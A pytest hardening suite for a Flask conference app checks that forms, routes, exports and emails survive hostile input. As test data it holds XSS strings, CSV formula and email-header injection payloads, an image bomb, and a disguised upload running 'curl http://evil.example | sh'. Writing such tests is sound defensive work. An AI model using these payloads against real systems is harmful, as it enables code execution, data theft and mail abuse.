"""Hostile input at every form and query endpoint (the list in ``hostile.py``): never a 500,
nothing comes back unescaped; stored payloads are escaped in pages, the floor plan SVG, CSV
exports and emails; hostile uploads are refused with a message."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from showcase.booths.models import ApplicationState, BoothApplication
from showcase.extensions import db
from tests.hardening.hostile import HOSTILE_FORMS, ODD_EMAILS, PAYLOADS, SCRIPT, hostile_text
from tests.hardening.test_authorisation_matrix import sign_in

TAG = re.compile(r"<[a-zA-Z/!]")


def assert_nothing_unescaped(body: str, values: dict, where: str) -> None:
    for name, value in values.items():
        if isinstance(value, str) and len(value) >= 8 and TAG.search(value):
            assert value not in body, f"{where}: {name}={value!r} came back unescaped"


@pytest.fixture(params=["sqlite", "postgresql"])
def database_url(request, tmp_path) -> str:
    """Every test here runs on SQLite and on PostgreSQL: PostgreSQL refuses what SQLite accepts
    (NUL bytes, integers past 2^31), so a table that passes on one only may still give 500s."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'showcase-test.db'}"
    return request.getfixturevalue("postgres_url")


def post_multipart(client, url: str, data: dict):
    """POST as multipart, encoded in memory (the test client would spool a large body to a
    temporary file it never closes). ``(bytes, filename)`` values become files."""
    fields = {}
    for name, value in data.items():
        if isinstance(value, tuple):
            content, filename = value
            value = FileStorage(
                io.BytesIO(content), filename, content_type="application/octet-stream"
            )
        fields[name] = value
    boundary, body = encode_multipart(fields)
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def send(client, world, form, values: dict):
    url = form.url(world)
    if form.method == "GET":
        return client.get(url, query_string=values)
    data = {**form.base(world), **values}
    for file_field, build in form.files.items():
        data[file_field] = (build(values), "hostile.csv")
    return post_multipart(client, url, data)


@pytest.mark.parametrize("form", HOSTILE_FORMS, ids=lambda form: form.name)
def test_hostile_values_never_break_a_form(app, client, world, form):
    if form.role:
        sign_in(client, app, form.role)

    @given(values=st.fixed_dictionaries({name: hostile_text() for name in form.fields}))
    def throw(values):
        response = send(client, world, form, values)
        body = response.get_data(as_text=True)
        where = f"{form.name} {values!r}"
        assert response.status_code < 500, where
        assert "Traceback" not in body
        assert_nothing_unescaped(body, values, where)
        if response.mimetype == "image/svg+xml":
            ET.fromstring(response.get_data())  # noqa: S314 - our own output

    throw()
    # Every payload once, in every field at the same time, whatever hypothesis drew.
    for payload in PAYLOADS + ODD_EMAILS:
        values = dict.fromkeys(form.fields, payload)
        response = send(client, world, form, values)
        assert response.status_code < 500, (form.name, payload)
        assert_nothing_unescaped(response.get_data(as_text=True), values, form.name)


JSON_BODIES = [
    {},
    [],
    "=cmd|' /C calc'!A0",
    {"email": ["a", "b"], "password": {"$ne": None}},
    {"contact_name": SCRIPT * 100, "city": -1, "space_sqm": 1e308},
    [[[[[[[[[[[]]]]]]]]]]],
    # The agenda builder's JSON endpoints: odd ids, impossible times, wrong types
    {"session_id": 10**30, "room_id": -1, "starts_at": "2027-02-30T25:61", "day": "x" * 1000},
    {"session_id": "1; DROP TABLE room", "room_id": None, "starts_at": ["2027-01-26T10:00"]},
    {"session_id": 1.5, "room_id": True, "starts_at": "\u0000", "step": "NaN", "day": "2027-01-26"},
]


def test_every_post_route_survives_hostile_json(app, client, world):
    from tests.hardening.world import build_url

    sign_in(client, app, "admin")
    checked = 0
    for rule in app.url_map.iter_rules():
        if "POST" not in rule.methods or rule.endpoint == "accounts.logout":
            continue
        url = build_url(app, world, rule)
        for body in JSON_BODIES:
            response = client.post(url, json=body)
            assert response.status_code < 500, (url, body)
        checked += 1
    assert checked >= 25


DEEP_JSON = "[" * 100_000 + "]" * 100_000


def test_every_post_route_refuses_deep_json_and_control_characters(app, client, world):
    """100,000 nested brackets, and NUL in a JSON value, refused with 400 on every POST route."""
    from tests.hardening.world import build_url

    sign_in(client, app, "admin")
    checked = 0
    for rule in app.url_map.iter_rules():
        if "POST" not in rule.methods or rule.endpoint == "accounts.logout":
            continue
        url = build_url(app, world, rule)
        response = client.post(url, data=DEEP_JSON, content_type="application/json")
        assert response.status_code == 400, (url, response.status_code)
        response = client.post(url, json={"name": "Somchai\x00", "q": ["\x00"]})
        assert response.status_code == 400, (url, response.status_code)
        checked += 1
    assert checked >= 25


def test_every_route_refuses_nul_and_huge_numbers_in_its_url(app, client, world):
    """Each URL argument in turn: a NUL byte in a text argument, 2^31 and 2^63 in a number
    argument. 404 (no such page) or 400, never a 500; public pages need no sign-in for it."""
    from flask import url_for

    from tests.hardening.world import url_values

    sign_in(client, app, "admin")
    checked = 0
    for rule in app.url_map.iter_rules():
        if rule.endpoint in ("static", "bootstrap.static") or not rule.arguments:
            continue
        method = "GET" if "GET" in rule.methods else "POST"
        for argument in sorted(rule.arguments):
            converter = type(rule._converters[argument]).__name__
            numeric = "Integer" in converter
            for bad in [2**31, 2**63] if numeric else ["\x00", "x\x00y", "\x1b[31m"]:
                values = {**url_values(world, rule), argument: bad}
                with app.test_request_context():
                    url = url_for(rule.endpoint, **values)
                response = client.open(url, method=method)
                assert response.status_code in (400, 404), (url, response.status_code)
                checked += 1
    assert checked >= 60
    anonymous = app.test_client()
    response = anonymous.get(f"/{world.event}/speakers/%00/")
    assert response.status_code == 404


@pytest.mark.parametrize(
    "url", ["/manage/login", "/{event}/register", "/{event}/booths/apply", "/{event}/cfp/"]
)
def test_very_large_form_bodies_are_refused_with_413(app, client, world, url):
    url = url.format(event=world.event)
    for body in (b"a=" + b"x" * 3_000_000, b"&".join([b"f=1"] * 200_000)):
        response = client.post(url, data=body, content_type="application/x-www-form-urlencoded")
        assert response.status_code == 413, url


@pytest.mark.parametrize(
    "form",
    [form for form in HOSTILE_FORMS if form.method == "GET"],
    ids=lambda form: form.name,
)
def test_control_characters_in_a_query_are_refused_with_400(app, client, world, form):
    if form.role:
        sign_in(client, app, form.role)
    client.set_cookie("showcase_lang", "th")
    for name in form.fields:
        response = client.get(form.url(world), query_string={name: "Somchai\x00"})
        assert response.status_code == 400, (form.name, name)
        assert "อักขระควบคุม" in response.get_data(as_text=True)


# Stored values come back escaped ---------------------------------------------------------------

FORMULA = "=cmd|' /C calc'!A0"
XSS = '"><script>alert(1)</script>'


@pytest.fixture
def hostile_exhibitor(app, world, mail_app, smtp_server, deliver):
    """An application full of payloads, submitted through the public form and approved."""
    from tests.hardening.hostile import application_base

    client = app.test_client()
    data = {
        **application_base(world),
        "contact_name": "Evil\r\nBcc: victim@evil.example",
        "contact_email": "hostile@city.example",
        "organisation": FORMULA,
        "title_en": XSS,
        "title_th": "=1+1 " + SCRIPT,
        "description_en": "</p><img src=x onerror=alert(1)>",
        "requirements": "@SUM(1+1)",
    }
    response = client.post(f"/{world.event}/booths/apply", data=data)
    assert response.status_code == 303, response.get_data(as_text=True)
    from showcase.booths.services import decisions
    from showcase.booths.services.applications import mark_confirmed
    from showcase.core.db import unit_of_work
    from showcase.events.services import get_event

    with app.app_context():
        application = db.session.scalar(
            select(BoothApplication).where(BoothApplication.contact_email == "hostile@city.example")
        )
        assert application.contact_name in (
            "Evil Bcc: victim@evil.example",
            "EvilBcc: victim@evil.example",
            "Evil\r\nBcc: victim@evil.example",
        )
        with unit_of_work(lock=True):
            mark_confirmed(application)
            decisions.approve_application(
                get_event(world.event), application.id, world.ids["booth_id"], "o@showcase.example"
            )
        assert application.state == ApplicationState.APPROVED
        return application.id


def test_stored_payloads_are_escaped_in_public_pages_and_the_svg(
    app, client, world, hostile_exhibitor
):
    from showcase.booths.services.directory import exhibitor_ref

    with app.app_context():
        ref = exhibitor_ref(db.session.get(BoothApplication, hostile_exhibitor))
    pages = [
        f"/{world.event}/exhibitors/",
        f"/{world.event}/exhibitors/{ref}/",
        f"/{world.event}/floorplan/",
    ]
    for url in pages:
        for language in ("en", "th"):
            client.set_cookie("showcase_lang", language)
            response = client.get(url, follow_redirects=True)
            body = response.get_data(as_text=True)
            assert response.status_code == 200, url
            assert XSS not in body and SCRIPT not in body, url
            assert "<img src=x" not in body, url
    client.set_cookie("showcase_lang", "en")
    body = client.get(f"/{world.event}/exhibitors/{ref}/").get_data(as_text=True)
    assert (
        "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in body
        or "&quot;&gt;&lt;script&gt;" in body
    )
    svg = client.get(f"/{world.event}/floorplan.svg")
    root = ET.fromstring(svg.get_data())  # noqa: S314 - well-formed whatever the names hold
    texts = " ".join(root.itertext())
    assert "A-03" in texts  # the hostile exhibitor's booth is drawn, its texts as text
    assert not root.findall(".//{http://www.w3.org/2000/svg}script")
    assert b"<script>" not in svg.get_data()


def test_stored_payloads_are_escaped_in_organiser_pages(app, client, world, hostile_exhibitor):
    sign_in(client, app, "organiser")
    for url in [
        f"/manage/{world.event}/booths/applications/?status=approved",
        f"/manage/{world.event}/booths/applications/{hostile_exhibitor}",
        f"/manage/{world.event}/booths/",
    ]:
        body = client.get(url).get_data(as_text=True)
        assert XSS not in body and SCRIPT not in body, url
    svg = client.get(f"/manage/{world.event}/booths/floorplan.svg")
    ET.fromstring(svg.get_data())  # noqa: S314 - our own output


def csv_cells(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_exports_neutralise_formula_cells(app, client, world, hostile_exhibitor):
    from showcase.events.services import create_city

    with app.app_context():
        create_city(
            name_en='=HYPERLINK("http://evil.example")', country_code="TH", kind="thai_member"
        )
        db.session.commit()
    sign_in(client, app, "organiser")
    exports = [
        f"/manage/{world.event}/booths/exhibitors.csv",
        f"/manage/{world.event}/booths/booths.csv",
        f"/manage/{world.event}/cities.csv",
    ]
    seen_neutralised = 0
    for url in exports:
        response = client.get(url)
        assert response.status_code == 200
        for row in csv_cells(response):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (url, cell)
                if cell.startswith("-"):
                    assert re.fullmatch(r"-?[0-9.]+", cell), (url, cell)
                if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@"):
                    seen_neutralised += 1
    assert seen_neutralised >= 2  # the organisation and the city name, kept readable


def test_email_headers_cannot_be_injected(app, world, hostile_exhibitor, smtp_server, deliver):
    deliver()
    messages = smtp_server.wait_for(1)
    mine = [m for m in messages if "hostile@city.example" in str(m["To"])]
    assert len(mine) >= 2  # the confirmation and the approval
    for message in mine:
        assert message["Bcc"] is None and message["Cc"] is None
        assert [address.addr_spec for address in message["To"].addresses] == [
            "hostile@city.example"
        ]
        assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
    for envelope in smtp_server.envelopes:
        assert "victim@evil.example" not in envelope.rcpt_tos


@pytest.mark.parametrize("address", ODD_EMAILS)
def test_odd_addresses_never_become_recipients_of_more_than_one(
    app, client, world, address, mail_app, smtp_server, deliver
):
    from tests.hardening.hostile import application_base

    response = client.post(
        f"/{world.event}/booths/apply", data={**application_base(world), "contact_email": address}
    )
    assert response.status_code in (303, 400)
    deliver()
    for envelope in smtp_server.envelopes:
        assert len(envelope.rcpt_tos) == 1
        assert "victim@evil.example" not in envelope.rcpt_tos[0]
        assert "," not in envelope.rcpt_tos[0]


# Uploads ----------------------------------------------------------------------------------------


def image_bomb() -> bytes:
    """A PNG of 20 000 × 20 000 pixels (400 million) in a few hundred kilobytes."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


HOSTILE_FILES = {
    "script renamed .png": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "logo.png"),
    "html renamed .png": (b"<html><script>alert(1)</script></html>", "logo.png"),
    "svg with a script": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "logo.svg",
    ),
    "image bomb": (image_bomb(), "bomb.png"),
    "oversized": (b"\x89PNG\r\n\x1a\n" + b"\0" * (3 * 1024 * 1024), "big.png"),
    "empty": (b"", "empty.png"),
}


@dataclass
class UploadField:
    name: str
    url: Callable
    base: Callable
    file_field: str
    role: str | None = None


def stored_images(app) -> int:
    from showcase.core.images import StoredImage

    with app.app_context():
        return len(db.session.scalars(select(StoredImage.id)).all())


# One entry per image upload; a new one (e.g. a speaker photo) adds one line.
UPLOAD_FIELDS = [
    UploadField(
        "booth application logo",
        lambda w: f"/{w.event}/booths/apply",
        lambda w: __import__("tests.hardening.hostile", fromlist=["x"]).application_base(w),
        "logo",
    ),
    UploadField(
        "speaker photo",
        lambda w: f"/{w.event}/cfp/me/{w.secrets['speaker_manage']}/profile",
        lambda w: {"name": "Somchai Jaidee", "language": "en", "city": ""},
        "photo",
    ),
    UploadField(
        "booth application edit logo",
        lambda w: f"/{w.event}/booths/application/{w.secrets['pending_manage']}/edit",
        lambda w: __import__("tests.hardening.hostile", fromlist=["x"]).application_base(w),
        "logo",
    ),
]

REFUSAL_MESSAGES = (
    "Upload a PNG, JPEG, WebP or GIF image.",
    "This file is not an image that can be read.",
    "The image has too many pixels.",
    "The image is larger than 2 MB.",
    "The file is empty.",
)


@pytest.mark.parametrize("upload", UPLOAD_FIELDS, ids=lambda u: u.name)
@pytest.mark.parametrize("kind", HOSTILE_FILES)
def test_hostile_uploads_are_refused_with_a_message(app, client, world, upload, kind):
    if upload.role:
        sign_in(client, app, upload.role)
    content, filename = HOSTILE_FILES[kind]
    before = stored_images(app)
    data = {**upload.base(world), upload.file_field: (content, filename)}
    response = post_multipart(client, upload.url(world), data)
    body = response.get_data(as_text=True)
    if kind == "empty" and response.status_code in (200, 302, 303):
        pass  # an empty file as "no logo": accepted without storing anything
    elif kind == "empty":
        # …or refused with its message (the speaker photo: "The file is empty.")
        assert response.status_code == 400, body[-2000:]
        assert "The file is empty." in body
    else:
        assert response.status_code in (400, 413), (kind, response.status_code)
        assert any(message in body for message in REFUSAL_MESSAGES), (kind, body[-2000:])
    assert stored_images(app) == before


def test_a_body_above_the_site_limit_is_refused_with_413(app, client, world):
    from tests.hardening.hostile import application_base

    app.config["MAX_CONTENT_LENGTH"] = 1024 * 1024
    data = {**application_base(world), "logo": (b"\0" * (2 * 1024 * 1024), "x.png")}
    client.set_cookie("showcase_lang", "th")
    response = post_multipart(client, f"/{world.event}/booths/apply", data)
    assert response.status_code == 413
    assert "ใหญ่" in response.get_data(as_text=True)


def check_export(url: str, response) -> str:
    """Check one response by its type; returns the kind checked."""
    import json

    mimetype = response.mimetype
    data = response.get_data()
    if mimetype in ("image/svg+xml", "application/xml", "text/xml") or mimetype.endswith("+xml"):
        ET.fromstring(data)  # noqa: S314 - our own output, under test
        assert b"<script" not in data, url
        return "xml"
    if mimetype == "application/json":
        json.loads(data)
        return "json"
    if mimetype == "text/csv":
        for row in csv_cells(response):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (url, cell)
        return "csv"
    if mimetype == "text/calendar":
        text = data.decode()
        for line in text.split("\r\n"):
            assert "\n" not in line and "\r" not in line, (url, line)
        return "ics"
    if mimetype == "text/html":
        body = data.decode()
        assert XSS not in body and SCRIPT not in body, url
        assert "<img src=x" not in body, url
        return "html"
    return mimetype


def test_every_get_route_returns_stored_payloads_safely(app, client, world, hostile_exhibitor):
    """Generated from the URL map: every page and export (HTML, SVG/XML, JSON, CSV, .ics) an
    organiser can open, with an application full of payloads stored. A new export is covered
    the day it is added, by its content type."""
    from tests.hardening.world import build_url

    sign_in(client, app, "admin")
    kinds = Counter()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint in ("static", "bootstrap.static"):
            continue
        url = build_url(app, world, rule)
        response = client.get(url)
        assert response.status_code < 500, url
        kinds[check_export(url, response)] += 1
    assert kinds["html"] >= 20 and kinds["csv"] >= 3 and kinds["xml"] >= 2, kinds


# Registration, programme and schedule: payloads stored through the services, then every GET ------


@pytest.fixture
def hostile_programme(app, world, mail_app, smtp_server, deliver):
    """A registration, a speaker and a published session full of payloads."""
    from showcase.core.db import unit_of_work
    from showcase.events.services import get_event
    from showcase.program.models import SessionState, SessionType
    from showcase.program.services import people
    from showcase.schedule.services import placement, publishing
    from tests.registration.helpers import add_category, register
    from tests.schedule.helpers import add_session, add_speaker, at

    with app.app_context():
        event = get_event(world.event)
        category = add_category(event, "hostile", name_en=XSS, name_th=FORMULA)
        db.session.commit()
        register(
            event,
            None,
            category,
            confirm=True,
            email="hostile-registrant@city.example",
            full_name="Evil\r\nBcc: victim@evil.example " + SCRIPT,
            full_name_th=FORMULA,
            organisation=FORMULA,
            job_title=XSS,
            other_city="@SUM(1+1)",
            dietary="</textarea>" + SCRIPT,
        )
        speaker = add_speaker(event, "SPKEVL", XSS, "hostile-speaker@city.example")
        people.update_profile(
            speaker,
            {"name": XSS, "name_th": FORMULA, "organisation": FORMULA, "bio_en": SCRIPT},
        )
        session = add_session(
            event,
            "EVIL01",
            XSS + "\r\nDESCRIPTION:injected",
            FORMULA,
            [speaker],
            30,
            state=SessionState.CONFIRMED,
            kind=SessionType.TALK,
        )
        session.abstract_en = "]]><script>alert(1)</script>&amp;"
        db.session.commit()
        room_id = world.ids["room_id"]
        with unit_of_work(lock=True):
            placement.place_session(event, session.id, room_id, at(1, 10))
            publishing.publish_release(event, "2.0", comment_en=XSS, comment_th=FORMULA)
    deliver()
    return "SPKEVL"


def test_registration_programme_and_schedule_payloads_come_back_safely(
    app, client, world, hostile_programme
):
    """Every GET route (HTML, JSON, XML, .ics, CSV) with the payloads stored; the schedule
    exports parse (json, XML, icalendar) and keep the hostile title as one text value."""
    import json

    import icalendar

    from tests.hardening.world import build_url

    sign_in(client, app, "admin")
    kinds = Counter()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint in ("static", "bootstrap.static"):
            continue
        url = build_url(app, world, rule)
        response = client.get(url)
        assert response.status_code < 500, url
        kinds[check_export(url, response)] += 1
        if response.mimetype == "text/calendar":
            calendar = icalendar.Calendar.from_ical(response.get_data())
            for event in calendar.walk("VEVENT"):
                assert str(event.get("DESCRIPTION", "")) != "injected", url
    assert kinds["json"] >= 2 and kinds["ics"] >= 3 and kinds["csv"] >= 4, kinds

    exported = json.loads(client.get(f"/{world.event}/schedule.json").get_data())
    assert f"{json.dumps(XSS)[:-1]}" in json.dumps(exported), "the hostile title, as JSON text"
    xml = client.get(f"/{world.event}/schedule.xml").get_data()
    root = ET.fromstring(xml)  # noqa: S314 - our own output, under test
    assert any(XSS in (text or "") for text in root.itertext())
    assert b"<script" not in xml
    ics = client.get(f"/{world.event}/schedule.ics").get_data()
    calendar = icalendar.Calendar.from_ical(ics)
    summaries = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
    assert any(summary.startswith(XSS) for summary in summaries), summaries
    for url, holds_formula in (
        (f"/manage/{world.event}/registrations.csv", True),  # organisation, Thai name
        (f"/manage/{world.event}/program/speakers.csv", True),  # organisation
        (f"/manage/{world.event}/program/sessions.csv", False),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = [cell for row in csv_cells(response) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], url
        if holds_formula:
            assert any(cell.startswith(("'=", "'@")) for cell in cells), url


def test_registration_and_programme_emails_keep_their_headers(
    app, world, hostile_programme, smtp_server
):
    messages = smtp_server.wait_for(1)
    mine = [m for m in messages if "hostile-registrant@city.example" in str(m["To"])]
    assert mine  # the confirmation of the hostile registration
    for message in messages:
        assert message["Bcc"] is None and message["Cc"] is None
        assert len(message["To"].addresses) == 1
        assert "\n" not in str(message["Subject"]) and "\r" not in str(message["Subject"])
    for envelope in smtp_server.envelopes:
        assert "victim@evil.example" not in envelope.rcpt_tos
